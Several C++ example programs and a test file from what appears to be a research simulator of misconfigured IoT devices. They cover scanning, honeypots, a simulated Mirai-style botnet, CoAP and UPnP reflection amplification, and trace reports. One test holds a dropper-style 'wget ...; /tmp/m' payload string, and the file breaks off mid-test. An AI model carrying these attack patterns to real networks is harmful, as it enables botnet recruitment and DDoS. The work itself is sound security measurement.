// Live study with a status endpoint attached: runs the full pipeline while
// core/status_service.h serves introspection snapshots over a unix socket
// and/or TCP localhost. Watch it from another terminal:
//
//   $ ./build/examples/live_study --unix /tmp/ofh.sock --scale 2048 &
//   $ ./build/tools/ofh-top/ofh-top --unix /tmp/ofh.sock
//
// Flags:
//   --unix PATH       serve on a unix-domain socket
//   --tcp             serve on TCP 127.0.0.1 (ephemeral port, printed)
//   --port N          fixed TCP port (implies --tcp)
//   --scale N         population scale denominator (default 2048)
//   --attack-scale N  attack volume denominator (default 32)
//   --days N          attack-month duration in sim days (default 2)
//   --threads N       scan worker threads (default 2)
//   --serve           allow the remote stop request and keep serving after
//                     the study finishes until one arrives (for drivers
//                     like scripts/check_status_proto.py --stop)
//
// Stdout emits `status: ...` lines before the run starts so scripts can
// discover the endpoint, then the summary report when the study completes.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

#include "core/status_service.h"
#include "core/study.h"

using namespace ofh;

int main(int argc, char** argv) {
  std::string unix_path;
  bool tcp = false;
  int port = 0;
  double scale_denom = 2048;
  double attack_denom = 32;
  int days = 2;
  unsigned threads = 2;
  bool serve = false;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto value = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : "";
    };
    if (arg == "--unix") {
      unix_path = value();
    } else if (arg == "--tcp") {
      tcp = true;
    } else if (arg == "--port") {
      port = std::atoi(value());
      tcp = true;
    } else if (arg == "--scale") {
      scale_denom = std::atof(value());
    } else if (arg == "--attack-scale") {
      attack_denom = std::atof(value());
    } else if (arg == "--days") {
      days = std::atoi(value());
    } else if (arg == "--threads") {
      threads = static_cast<unsigned>(std::atoi(value()));
    } else if (arg == "--serve") {
      serve = true;
    } else {
      std::fprintf(stderr,
                   "usage: live_study [--unix PATH] [--tcp] [--port N] "
                   "[--scale N] [--attack-scale N] [--days N] "
                   "[--threads N] [--serve]\n");
      return 1;
    }
  }
  if (unix_path.empty() && !tcp) {
    std::fprintf(stderr, "live_study: need --unix and/or --tcp/--port\n");
    return 1;
  }

  core::StudyConfig config;
  config.population_scale = scale_denom > 0 ? 1.0 / scale_denom : 1.0;
  config.attack_scale = attack_denom > 0 ? 1.0 / attack_denom : 1.0;
  config.attack_duration = sim::days(std::max(1, days));
  config.scan_threads = threads;
  core::Study study(config);

  core::StatusService::Options options;
  options.unix_path = unix_path;
  options.tcp = tcp;
  options.tcp_port = static_cast<std::uint16_t>(port);
  options.allow_stop = serve;
  core::StatusService service(study.introspection(), options);
  if (!service.start()) {
    std::fprintf(stderr, "live_study: %s\n", service.error().c_str());
    return 1;
  }
  if (!unix_path.empty()) {
    std::printf("status: unix=%s\n", unix_path.c_str());
  }
  if (tcp) {
    std::printf("status: tcp_port=%u\n", unsigned{service.tcp_port()});
  }
  std::fflush(stdout);

  study.run_all();

  std::printf("study complete: %zu findings, %zu attack events\n",
              study.findings().size(), study.attack_log().size());
  std::fflush(stdout);

  if (serve) {
    // Keep answering status queries until a remote stop request arrives.
    while (!service.stop_requested()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    std::printf("stop requested, shutting down\n");
  }
  service.stop();
  return 0;
}
