// Botnet outbreak: watch a Mirai-style epidemic spread through the
// misconfigured device population in real (simulated) time, then let the
// grown botnet flood a victim — the paper's end-to-end warning: devices
// left "open for hire" first get recruited, then attack.
//
//   $ ./build/examples/botnet_outbreak
#include <cstdio>

#include "attackers/malware.h"
#include "attackers/probes.h"
#include "attackers/propagation.h"
#include "devices/population.h"
#include "net/capture.h"
#include "net/fabric.h"
#include "telescope/telescope.h"

using namespace ofh;

int main() {
  sim::Simulation sim;
  net::Fabric fabric(sim, 99);
  fabric.set_latency(sim::msec(15), sim::msec(25));

  // A small Internet with an elevated default-credential share.
  devices::PopulationSpec spec;
  spec.seed = 99;
  spec.scale = 1.0 / 4'096;
  spec.weak_credential_share = 0.15;
  devices::Population population(spec);
  population.build();
  population.attach_all(fabric);

  attackers::MalwareCorpus corpus(99, 0.05);
  attackers::PropagationConfig config;
  config.seed = 99;
  config.duration = sim::days(10);
  config.initial_bots = 2;
  config.attempts_per_bot_per_hour = 12.0;
  attackers::Epidemic epidemic(config, population, corpus);
  epidemic.deploy(fabric);

  std::printf("population %llu devices, %zu susceptible; seeding %zu bots\n\n",
              static_cast<unsigned long long>(population.total_devices()),
              epidemic.susceptible_count(), epidemic.infected_count());

  for (int day = 1; day <= 10; ++day) {
    sim.run_until(sim::days(static_cast<std::uint64_t>(day)));
    std::printf("day %2d: botnet size %zu\n", day, epidemic.infected_count());
  }

  // The grown botnet turns on a victim: every bot fires a CoAP discovery
  // flood at one address ("attacks for hire").
  net::Host victim_host(util::Ipv4Addr(77, 7, 7, 7));
  victim_host.attach(fabric);
  std::size_t flood_packets = 0;
  victim_host.udp().bind(5683, [&flood_packets](const net::Datagram&) {
    ++flood_packets;
  });

  std::size_t firing_bots = 0;
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (!epidemic.is_infected(population.address_at(i))) continue;
    // Infected devices were materialized when the epidemic took them over.
    attackers::flood_coap(*population.device_at(i), victim_host.address(), 20);
    ++firing_bots;
  }
  sim.run_until(sim.now() + sim::minutes(10));

  std::printf("\nDDoS phase: %zu bots fired; victim received %zu packets\n",
              firing_bots, flood_packets);
  std::printf("(every packet originated from a real misconfigured device's "
              "address)\n");
  return 0;
}
