// Reflection attack anatomy: measures the amplification factor of
// misconfigured CoAP and UPnP devices — the reason the paper counts
// 1.54M devices as "Reflection-attack resource" (Table 5) — by bouncing
// spoofed discovery requests off them onto a victim.
//
//   $ ./build/examples/reflection_attack
#include <cstdio>

#include "attackers/probes.h"
#include "devices/device.h"
#include "net/fabric.h"
#include "proto/coap.h"
#include "proto/ssdp.h"
#include "sim/simulation.h"

using namespace ofh;

int main() {
  sim::Simulation sim;
  net::Fabric fabric(sim, 5);

  // Misconfigured reflectors.
  devices::DeviceSpec coap_spec;
  coap_spec.address = util::Ipv4Addr(203, 113, 0, 10);
  coap_spec.primary = proto::Protocol::kCoap;
  coap_spec.misconfig = devices::Misconfig::kCoapReflector;
  devices::Device coap_reflector(std::move(coap_spec));
  coap_reflector.attach(fabric);

  devices::DeviceSpec upnp_spec;
  upnp_spec.address = util::Ipv4Addr(203, 113, 0, 11);
  upnp_spec.primary = proto::Protocol::kUpnp;
  upnp_spec.misconfig = devices::Misconfig::kUpnpReflector;
  upnp_spec.model = devices::models_for(proto::Protocol::kUpnp).front();
  devices::Device upnp_reflector(std::move(upnp_spec));
  upnp_reflector.attach(fabric);

  // Attacker and victim.
  net::Host attacker(util::Ipv4Addr(66, 6, 6, 6));
  net::Host victim(util::Ipv4Addr(77, 7, 7, 7));
  attacker.attach(fabric);
  victim.attach(fabric);

  std::size_t victim_bytes = 0, victim_packets = 0;
  victim.udp().bind(33'000, [&](const net::Datagram& datagram) {
    victim_bytes += datagram.payload.size();
    ++victim_packets;
  });

  const int kProbes = 100;
  const auto coap_probe =
      proto::coap::encode(proto::coap::make_discovery_request(3));
  const auto ssdp_probe = proto::ssdp::encode_msearch(proto::ssdp::MSearch{});

  // CoAP round.
  attackers::reflect_udp(attacker, coap_reflector.address(), victim.address(),
                         proto::Protocol::kCoap, kProbes);
  sim.run();
  const double coap_sent = static_cast<double>(coap_probe.size()) * kProbes;
  std::printf("CoAP : %4d spoofed probes (%5.0f B) -> %6zu B on victim "
              "(amplification x%.1f, %zu packets)\n",
              kProbes, coap_sent, victim_bytes, victim_bytes / coap_sent,
              victim_packets);

  // UPnP round.
  victim_bytes = victim_packets = 0;
  attackers::reflect_udp(attacker, upnp_reflector.address(), victim.address(),
                         proto::Protocol::kUpnp, kProbes);
  sim.run();
  const double ssdp_sent = static_cast<double>(ssdp_probe.size()) * kProbes;
  std::printf("UPnP : %4d spoofed probes (%5.0f B) -> %6zu B on victim "
              "(amplification x%.1f, %zu packets)\n",
              kProbes, ssdp_sent, victim_bytes, victim_bytes / ssdp_sent,
              victim_packets);

  std::printf(
      "\nA hardened device answers the same probes with a minimal response\n"
      "and no duplicates — no amplification value:\n");
  devices::DeviceSpec hardened_spec;
  hardened_spec.address = util::Ipv4Addr(203, 113, 0, 12);
  hardened_spec.primary = proto::Protocol::kUpnp;
  hardened_spec.misconfig = devices::Misconfig::kNone;
  devices::Device hardened(std::move(hardened_spec));
  hardened.attach(fabric);
  victim_bytes = victim_packets = 0;
  attackers::reflect_udp(attacker, hardened.address(), victim.address(),
                         proto::Protocol::kUpnp, kProbes);
  sim.run();
  std::printf("UPnP : %4d spoofed probes (%5.0f B) -> %6zu B on victim "
              "(amplification x%.2f)\n",
              kProbes, ssdp_sent, victim_bytes, victim_bytes / ssdp_sent);
  return 0;
}
