// Trace export: runs a reduced study and writes the two causal-trace
// artefacts — the Chrome trace-event JSON (load it at https://ui.perfetto.dev
// or chrome://tracing) and the attack-chain provenance report. CI validates
// the JSON with python3 -m json.tool and scripts/check_trace.py.
//
//   $ ./build/examples/trace_export [trace.json [chains.txt]]
#include <cstdio>
#include <fstream>

#include "core/study.h"

using namespace ofh;

int main(int argc, char** argv) {
  const std::string json_path =
      argc > 1 ? argv[1] : std::string("openforhire_trace.json");
  const std::string chains_path =
      argc > 2 ? argv[2] : std::string("openforhire_chains.txt");

  // Reduced scales keep the run (and the JSON) small; the trace layer is
  // exercised end to end — scan shards, attack month, telescope, verdicts.
  core::StudyConfig config;
  config.population_scale = 1.0 / 8'192;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(6);
  core::Study study(config);

  std::puts("running the study (reduced scale) ...");
  study.run_all();

  std::ofstream json_out(json_path);
  std::ofstream chains_out(chains_path);
  if (!json_out || !chains_out) {
    std::fprintf(stderr, "cannot open %s / %s for writing\n",
                 json_path.c_str(), chains_path.c_str());
    return 1;
  }
  json_out << study.trace_json();
  chains_out << study.attack_chains();

  std::printf("wrote %s and %s\n", json_path.c_str(), chains_path.c_str());
  return 0;
}
