// Full report: runs the entire study and writes every table/figure report
// into a single markdown file (openforhire_report.md) — the one-command
// artefact a downstream user would hand to a reviewer.
//
//   $ ./build/examples/full_report [output-path]
#include <cstdio>
#include <fstream>

#include "core/reports.h"
#include "core/study.h"

using namespace ofh;

int main(int argc, char** argv) {
  const std::string path =
      argc > 1 ? argv[1] : std::string("openforhire_report.md");

  core::StudyConfig config;
  config.population_scale = 1.0 / 1'024;
  config.attack_scale = 1.0 / 16;
  core::Study study(config);

  std::puts("running the full study (scan + datasets + attack month + "
            "correlation) ...");
  study.run_all();

  std::ofstream out(path);
  if (!out) {
    std::fprintf(stderr, "cannot open %s for writing\n", path.c_str());
    return 1;
  }
  out << "# openforhire study report\n\n"
      << "Population scale 1/" << 1.0 / config.population_scale
      << ", attack scale 1/" << 1.0 / config.attack_scale << ", seed "
      << config.seed << ".\n\n"
      << "Every section prints the paper's IMC'21 value next to this run's "
         "measurement; absolute numbers scale with the simulated "
         "population.\n";

  const auto emit = [&out](const std::string& text) {
    out << "\n```\n" << text << "```\n";
  };
  emit(core::report_table4_exposed(study));
  emit(core::report_fig2_device_types(study));
  emit(core::report_table5_misconfigured(study));
  emit(core::report_table6_honeypots(study));
  emit(core::report_table10_countries(study));
  emit(core::report_table7_attacks(study));
  emit(core::report_table12_credentials(study));
  emit(core::report_fig3_scanning_services(study));
  emit(core::report_fig4_attack_types(study));
  emit(core::report_table8_telescope(study));
  emit(core::report_fig5_greynoise(study));
  emit(core::report_fig6_virustotal(study));
  emit(core::report_fig7_trends(study));
  emit(core::report_fig8_daily(study));
  emit(core::report_fig9_multistage(study));
  emit(core::report_correlation(study));

  // Observability appendix: the deterministic metrics export (same bytes
  // for any scan_threads setting) plus the wall-clock profile of this run.
  out << "\n## Run telemetry\n\n```\n"
      << study.metrics_prometheus() << "```\n\n```\n"
      << study.metrics_profile() << "```\n";

  // Causal-trace appendix: the attack-chain provenance report inline, the
  // Chrome trace JSON to a side file (load it in Perfetto).
  out << "\n## Attack-chain provenance\n\n```\n"
      << study.attack_chains() << "```\n";
  const std::string trace_path = path + ".trace.json";
  std::ofstream trace_out(trace_path);
  if (trace_out) trace_out << study.trace_json();

  std::printf("wrote %s (%zu attack events, %zu scan records) and %s\n",
              path.c_str(), study.attack_log().size(),
              study.scan_db().size(), trace_path.c_str());
  return 0;
}
