// Quickstart: build a small simulated Internet, run a ZMap-style scan over
// two protocols, classify misconfigurations and print the findings.
//
//   $ ./build/examples/quickstart
#include <cstdio>

#include "classify/misconfig_rules.h"
#include "devices/device.h"
#include "net/fabric.h"
#include "scanner/scanner.h"
#include "sim/simulation.h"

using namespace ofh;

int main() {
  // 1. The simulated Internet: an event kernel plus a packet fabric.
  sim::Simulation sim;
  net::Fabric fabric(sim, /*seed=*/7);

  // 2. Plant a few IoT devices in 198.18.7.0/24 — two of them misconfigured.
  std::vector<std::unique_ptr<devices::Device>> hosts;
  const auto plant = [&](std::uint8_t last, proto::Protocol protocol,
                         devices::Misconfig misconfig) {
    devices::DeviceSpec spec;
    spec.address = util::Ipv4Addr(198, 18, 7, last);
    spec.primary = protocol;
    spec.misconfig = misconfig;
    spec.model = devices::models_for(protocol).empty()
                     ? nullptr
                     : devices::models_for(protocol).front();
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  };
  plant(10, proto::Protocol::kTelnet, devices::Misconfig::kTelnetNoAuthRoot);
  plant(11, proto::Protocol::kTelnet, devices::Misconfig::kNone);
  plant(12, proto::Protocol::kMqtt, devices::Misconfig::kMqttNoAuth);

  // 3. A scanning host sweeps the prefix, one protocol at a time.
  scanner::ScanDb db;
  scanner::Scanner scanner(util::Ipv4Addr(192, 35, 168, 10), db);
  scanner.attach(fabric);
  for (const auto protocol :
       {proto::Protocol::kTelnet, proto::Protocol::kMqtt}) {
    scanner::ScanConfig config;
    config.protocol = protocol;
    config.targets = {*util::Cidr::parse("198.18.7.0/24")};
    bool done = false;
    scanner.start(config, [&done] { done = true; });
    while (!done && sim.step()) {
    }
  }

  // 4. Classify the banners (Tables 2 and 3 of the paper).
  std::printf("scan: %zu responsive records, %llu probes sent\n\n", db.size(),
              static_cast<unsigned long long>(db.probes_sent()));
  for (const auto& finding : classify::classify_all(db)) {
    std::printf("%-15s %-7s %s\n", finding.host.to_string().c_str(),
                std::string(proto::protocol_name(finding.protocol)).c_str(),
                std::string(devices::misconfig_name(finding.misconfig))
                    .c_str());
  }
  return 0;
}
