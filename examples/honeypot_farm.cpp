// Honeypot farm: deploy the paper's six honeypots, drive a handful of
// attacks against them by hand (a Mirai-style Telnet bot, an MQTT poisoner,
// an EternalBlue probe, an SSDP flood) and dump the classified event log.
//
//   $ ./build/examples/honeypot_farm
#include <cstdio>

#include "attackers/credentials.h"
#include "attackers/malware.h"
#include "attackers/probes.h"
#include "honeynet/deployments.h"
#include "net/fabric.h"
#include "sim/simulation.h"

using namespace ofh;

int main() {
  sim::Simulation sim;
  net::Fabric fabric(sim, 11);

  // Six honeypots, one public IP each (the paper's Figure 1 groups).
  honeynet::EventLog log;
  std::vector<util::Ipv4Addr> addresses;
  for (int i = 1; i <= 6; ++i) addresses.push_back(util::Ipv4Addr(45, 0, 0, i));
  auto deployment = honeynet::make_deployment(addresses, log);
  for (auto& honeypot : deployment.honeypots) {
    honeypot->attach(fabric);
    std::printf("deployed %-8s at %s\n", honeypot->name().c_str(),
                honeypot->address().to_string().c_str());
  }

  // Attackers.
  net::Host bot(util::Ipv4Addr(66, 6, 6, 6));
  bot.attach(fabric);
  util::Rng rng(3);
  attackers::MalwareCorpus corpus(3, /*scale=*/0.1);

  // A Mirai-style bot brute-forces Cowrie's Telnet with Table 12 creds and
  // drops a payload.
  attackers::bruteforce_telnet(
      bot, addresses[4],
      attackers::sample_credentials(proto::Protocol::kTelnet, rng, 3),
      &corpus.pick(proto::Protocol::kTelnet, rng));
  // An MQTT poisoner rewrites HosTaGe's retained sensor topic.
  attackers::attack_mqtt(bot, addresses[0], /*poison=*/true);
  // An EternalBlue-style exploit against Dionaea's SMB.
  attackers::attack_smb(bot, addresses[5], /*exploit=*/true);
  // An SSDP flood drowning U-Pot.
  attackers::flood_ssdp(bot, addresses[1], 60);

  sim.run_until(sim::minutes(10));

  std::printf("\n%zu attack events recorded:\n", log.size());
  const auto by_type = log.count_by_type();
  for (const auto& [type, count] : by_type.ranked()) {
    std::printf("  %-12s %llu\n", type.c_str(),
                static_cast<unsigned long long>(count));
  }
  std::printf("\nfirst few events:\n");
  std::size_t shown = 0;
  for (const auto& event : log.events()) {
    if (shown++ >= 12) break;
    std::printf("  [%s] %-8s %-6s %-11s %s\n",
                sim::format_time(event.when).c_str(), event.honeypot.c_str(),
                std::string(proto::protocol_name(event.protocol)).c_str(),
                std::string(honeynet::attack_type_name(event.type)).c_str(),
                event.detail.substr(0, 48).c_str());
  }
  return 0;
}
