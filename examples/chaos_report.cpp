// Chaos quick-start: run the study three times — fault-free, under 5%
// uniform packet loss with probe retries, and under a canned chaos schedule
// (loss bursts, link flaps, partitions, latency spikes, refusal windows,
// host crashes) — and print each run's degradation report against the
// fault-free baseline. Every run is deterministic: same seed, same report,
// regardless of scan_threads.
//
//   $ ./build/examples/chaos_report
#include <cstdio>

#include "core/study.h"
#include "devices/population.h"
#include "net/faults.h"

using namespace ofh;

namespace {

core::StudyConfig base_config() {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(3);
  return config;
}

// Chaos windows need victim ranges; derive them from a throwaway replica of
// the same population the study will build (build() is pure in its spec).
net::FaultSchedule canned_chaos(const core::StudyConfig& config) {
  devices::PopulationSpec spec;
  spec.seed = config.seed;
  spec.scale = config.population_scale;
  devices::Population population(spec);
  population.build();
  net::ChaosOptions options;
  options.ranges = population.prefixes();
  options.end = sim::days(10);
  net::FaultSchedule schedule = net::FaultSchedule::chaos(config.seed, options);
  schedule.uniform_loss = 0.02;
  return schedule;
}

void banner(const char* title) {
  std::printf("\n================ %s ================\n", title);
}

}  // namespace

int main() {
  // Run 1: fault-free reference.
  banner("fault-free");
  core::DegradationBaseline baseline;
  {
    core::Study study(base_config());
    study.run_all();
    baseline = study.baseline();
    std::printf("%s", study.degradation_report().c_str());
  }

  // Run 2: 5% uniform loss, recovered by scanner retry/backoff and
  // attack-session reconnects.
  banner("uniform 5% loss + retries");
  {
    core::StudyConfig config = base_config();
    config.fault_schedule.uniform_loss = 0.05;
    config.scan_attempts = 4;
    config.session_connect_attempts = 2;
    core::Study study(config);
    study.run_all();
    std::printf("%s", study.degradation_report(&baseline).c_str());
  }

  // Run 3: the full chaos schedule — bursty loss plus every window kind.
  banner("chaos schedule");
  {
    core::StudyConfig config = base_config();
    config.fault_schedule = canned_chaos(config);
    config.scan_attempts = 3;
    config.session_connect_attempts = 2;
    core::Study study(config);
    study.run_all();
    std::printf("%s", study.degradation_report(&baseline).c_str());
  }
  return 0;
}
