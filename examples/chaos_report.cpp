// Chaos quick-start, now a thin wrapper over the scenario corpus: the three
// configurations this example used to hard-code (fault-free reference, 5%
// uniform loss recovered by retries, full canned chaos schedule) live in
// tests/scenarios/{baseline_clean,flaky_network,chaos_degraded}.ofh, where
// CI runs them as regression tests with regexp-pinned degradation reports.
// This wrapper just executes those scenarios and prints the reports.
//
//   $ ./build/examples/chaos_report [scenario-dir]
#include <cstdio>
#include <string>

#include "core/scenario.h"

int main(int argc, char** argv) {
  const std::string dir = argc > 1 ? argv[1] : "tests/scenarios";
  const char* const names[] = {"baseline_clean", "flaky_network",
                               "chaos_degraded"};
  for (const char* name : names) {
    const std::string path = dir + "/" + name + ".ofh";
    ofh::core::ScenarioError error;
    const auto scenario = ofh::core::parse_scenario_file(path, &error);
    if (!scenario) {
      std::fprintf(stderr, "%s\n", error.to_string().c_str());
      return 1;
    }
    std::printf("\n================ %s ================\n",
                scenario->title.c_str());
    ofh::core::ScenarioRunOptions options;
    options.thread_sweep = {1};
    const auto result = ofh::core::run_scenario(*scenario, options);
    for (const auto& report : result.reports) {
      std::printf("%s", report.text.c_str());
    }
    for (const auto& failure : result.failures) {
      std::fprintf(stderr, "%s\n", failure.c_str());
    }
    if (!result.passed) return 1;
  }
  return 0;
}
