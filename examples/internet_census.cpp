// Internet census: the full "Open for hire" pipeline end-to-end at a small
// scale — population, six-protocol scan, honeypot fingerprint filtering,
// open-dataset correlation, one simulated week of honeypot + telescope
// capture, and the final infected-device correlation.
//
//   $ ./build/examples/internet_census
#include <cstdio>

#include "core/reports.h"
#include "core/study.h"

using namespace ofh;

int main() {
  core::StudyConfig config;
  config.seed = 1;
  config.population_scale = 1.0 / 4'096;  // ~3.5k devices
  config.attack_scale = 1.0 / 64;
  config.attack_duration = sim::days(7);  // a one-week deployment

  core::Study study(config);

  std::puts("[1/5] building the simulated Internet ...");
  study.setup_internet();
  std::printf("      %llu devices, %zu wild honeypots, telescope %s\n",
              static_cast<unsigned long long>(study.population().total_devices()),
              study.wild_honeypot_count(),
              study.config().telescope_range.to_string().c_str());

  std::puts("[2/5] Internet-wide scan (6 protocols) ...");
  study.run_scan();
  std::printf("      %llu probes, %zu responsive records, %zu findings "
              "(%zu honeypots filtered)\n",
              static_cast<unsigned long long>(study.scan_db().probes_sent()),
              study.scan_db().size(), study.findings().size(),
              study.fingerprints().honeypot_hosts.size());

  std::puts("[3/5] open dataset snapshots ...");
  study.run_datasets();

  std::puts("[4/5] honeypot deployment + attack week ...");
  study.run_attack_month();
  std::printf("      %zu attack events, %llu telescope packets\n",
              study.attack_log().size(),
              static_cast<unsigned long long>(study.scope().total_packets()));

  std::puts("[5/5] cross-experiment correlation ...");
  study.correlate();

  std::fputs(core::report_table5_misconfigured(study).c_str(), stdout);
  std::fputs(core::report_table6_honeypots(study).c_str(), stdout);
  std::fputs(core::report_correlation(study).c_str(), stdout);
  return 0;
}
