// Tests for the extension modules: packet capture + pcap malware analysis,
// active honeypot fingerprinting, and the Mirai propagation epidemic.
#include <gtest/gtest.h>

#include "attackers/malware.h"
#include "attackers/probes.h"
#include "attackers/propagation.h"
#include "classify/active_fingerprint.h"
#include "core/pcap_analysis.h"
#include "devices/device.h"
#include "honeynet/honeypot.h"
#include "net/capture.h"
#include "test_helpers.h"

namespace ofh {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

// ------------------------------------------------------------------ capture

class CaptureTest : public SimTest {};

TEST_F(CaptureTest, RecordsMatchingPacketsOnly) {
  net::CaptureFilter filter;
  filter.port = 23;
  net::PacketCapture capture(filter);
  capture.attach(fabric_);

  PlainHost a(Ipv4Addr(10, 0, 0, 1)), b(Ipv4Addr(10, 0, 0, 2));
  a.attach(fabric_);
  b.attach(fabric_);
  a.udp().send(b.address(), 23, util::to_bytes("telnetish"));
  a.udp().send(b.address(), 80, util::to_bytes("webish"));
  run();

  EXPECT_EQ(capture.size(), 1u);
  EXPECT_EQ(capture.seen(), 2u);
  EXPECT_EQ(capture.records().front().packet.dst_port, 23);
}

TEST_F(CaptureTest, HostFilterMatchesEitherDirection) {
  net::CaptureFilter filter;
  filter.host = Ipv4Addr(10, 0, 0, 9);
  net::PacketCapture capture(filter);
  capture.attach(fabric_);

  PlainHost a(Ipv4Addr(10, 0, 0, 1)), b(Ipv4Addr(10, 0, 0, 9));
  a.attach(fabric_);
  b.attach(fabric_);
  b.udp().bind(5, [&b](const net::Datagram& datagram) {
    b.udp().send(datagram.src, datagram.src_port, util::to_bytes("pong"), 5);
  });
  a.udp().send(b.address(), 5, util::to_bytes("ping"), 40'001);
  run();
  EXPECT_EQ(capture.size(), 2u);  // both directions
}

TEST_F(CaptureTest, RingBufferDropsOldest) {
  net::PacketCapture capture({}, /*max_packets=*/3);
  capture.attach(fabric_);
  PlainHost a(Ipv4Addr(10, 0, 0, 1)), b(Ipv4Addr(10, 0, 0, 2));
  a.attach(fabric_);
  b.attach(fabric_);
  for (int i = 0; i < 5; ++i) {
    a.udp().send(b.address(), static_cast<std::uint16_t>(100 + i),
                 util::to_bytes("x"));
  }
  run();
  EXPECT_EQ(capture.size(), 3u);
  EXPECT_EQ(capture.dropped(), 2u);
  EXPECT_EQ(capture.records().front().packet.dst_port, 102);
}

TEST_F(CaptureTest, PayloadOnlyFilterSkipsBareSegments) {
  net::CaptureFilter filter;
  filter.payload_only = true;
  net::PacketCapture capture(filter);
  capture.attach(fabric_);
  PlainHost server(Ipv4Addr(10, 0, 0, 1)), client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  server.tcp().listen(80, [](net::TcpConnection& conn) {
    conn.send_text("hello");
  });
  client.tcp().connect(server.address(), 80, [](net::TcpConnection*) {});
  run();
  // Only the data segment was kept (SYN/SYNACK/ACK are empty).
  ASSERT_EQ(capture.size(), 1u);
  EXPECT_EQ(util::to_string(capture.records().front().packet.payload),
            "hello");
}

// -------------------------------------------------------- capture analysis

TEST_F(CaptureTest, MalwareHashesExtractedFromPayloads) {
  net::PacketCapture capture;
  capture.attach(fabric_);

  intel::VirusTotalDb virustotal;
  attackers::MalwareCorpus corpus(1, 0.05);
  for (const auto& sample : corpus.samples()) {
    virustotal.add_hash(sample.sha256, sample.family);
  }
  util::Rng rng(1);
  const auto& mirai = corpus.pick(proto::Protocol::kTelnet, rng);

  PlainHost a(Ipv4Addr(10, 0, 0, 1)), b(Ipv4Addr(10, 0, 0, 2));
  a.attach(fabric_);
  b.attach(fabric_);
  a.udp().send(b.address(), 23,
               util::to_bytes("wget x; /tmp/m sha256=" + mirai.sha256));
  a.udp().send(b.address(), 23,
               util::to_bytes("sha256=" + std::string(64, '0')));  // unknown
  a.udp().send(b.address(), 23, util::to_bytes("sha256=notavalidhash"));
  run();

  const auto report = core::analyze_capture(capture, virustotal);
  EXPECT_EQ(report.variants_by_family.at(mirai.family).count(mirai.sha256),
            1u);
  EXPECT_EQ(report.unknown_hashes.size(), 1u);
  EXPECT_EQ(report.total_variants(), 1u);
}

TEST_F(CaptureTest, BotSessionLeavesIdentifiableHashInCapture) {
  // End-to-end: a Telnet bot drops malware on an open device; the capture
  // analysis recovers the variant — the paper's "113 Mirai variants" flow.
  net::PacketCapture capture;
  capture.attach(fabric_);

  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(10, 1, 0, 1);
  spec.primary = proto::Protocol::kTelnet;
  spec.misconfig = devices::Misconfig::kTelnetNoAuthRoot;
  devices::Device victim(std::move(spec));
  victim.attach(fabric_);

  PlainHost bot(Ipv4Addr(10, 1, 0, 2));
  bot.attach(fabric_);

  intel::VirusTotalDb virustotal;
  attackers::MalwareCorpus corpus(2, 0.05);
  for (const auto& sample : corpus.samples()) {
    virustotal.add_hash(sample.sha256, sample.family);
  }
  util::Rng rng(2);
  const auto& sample = corpus.pick(proto::Protocol::kTelnet, rng);
  attackers::bruteforce_telnet(bot, victim.address(), {{"root", "root"}},
                               &sample);
  run(sim::minutes(5));

  const auto report = core::analyze_capture(capture, virustotal);
  EXPECT_EQ(report.total_variants(), 1u);
  EXPECT_EQ(report.variants_by_family.count(sample.family), 1u);
}

// ------------------------------------------------- active fingerprinting

class ActiveFingerprintTest : public SimTest {
 protected:
  ActiveFingerprintTest() : prober_(Ipv4Addr(9, 9, 9, 9)) {
    prober_.attach(fabric_);
  }

  classify::ActiveProbeResult probe(Ipv4Addr target,
                                    std::uint16_t port = 23) {
    classify::ActiveProbeResult result;
    bool done = false;
    classify::ActiveFingerprinter::probe(
        prober_, target, port,
        [&](const classify::ActiveProbeResult& r) {
          result = r;
          done = true;
        });
    run(sim::minutes(5));
    EXPECT_TRUE(done);
    return result;
  }

  PlainHost prober_;
};

TEST_F(ActiveFingerprintTest, WildHoneypotScoresHigh) {
  honeynet::WildHoneypot honeypot(honeynet::honeypot_signatures()[1],
                                  Ipv4Addr(10, 2, 0, 1));  // Cowrie
  honeypot.attach(fabric_);
  const auto result = probe(honeypot.address());
  EXPECT_TRUE(result.connected);
  EXPECT_TRUE(result.banner_match);
  EXPECT_EQ(result.banner_name, "Cowrie");
  EXPECT_TRUE(result.deterministic);
  EXPECT_TRUE(result.is_honeypot());
}

TEST_F(ActiveFingerprintTest, RealDeviceScoresLow) {
  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(10, 2, 0, 2);
  spec.primary = proto::Protocol::kTelnet;
  spec.misconfig = devices::Misconfig::kNone;  // login console
  devices::Device device(std::move(spec));
  device.attach(fabric_);
  const auto result = probe(device.address());
  EXPECT_TRUE(result.connected);
  EXPECT_FALSE(result.banner_match);
  EXPECT_FALSE(result.is_honeypot());
}

TEST_F(ActiveFingerprintTest, UnreachableTargetReportsNotConnected) {
  const auto result = probe(Ipv4Addr(10, 2, 0, 99));
  EXPECT_FALSE(result.connected);
  EXPECT_FALSE(result.is_honeypot());
}

// ----------------------------------------------------------- propagation

TEST(Epidemic, SpreadsFromSeedsThroughWeakDevices) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 23);
  fabric.set_latency(sim::msec(10), sim::msec(5));

  devices::PopulationSpec spec;
  spec.seed = 23;
  spec.scale = 1.0 / 4'096;
  spec.weak_credential_share = 0.2;
  devices::Population population(spec);
  population.build();
  population.attach_all(fabric);

  attackers::MalwareCorpus corpus(23, 0.05);
  attackers::PropagationConfig config;
  config.seed = 23;
  config.duration = sim::days(4);
  config.initial_bots = 2;
  config.attempts_per_bot_per_hour = 16.0;
  attackers::Epidemic epidemic(config, population, corpus);
  epidemic.deploy(fabric);

  const auto initial = epidemic.infected_count();
  EXPECT_GE(initial, 1u);
  sim.run_until(sim::days(4));

  EXPECT_GT(epidemic.infected_count(), initial);  // it spread
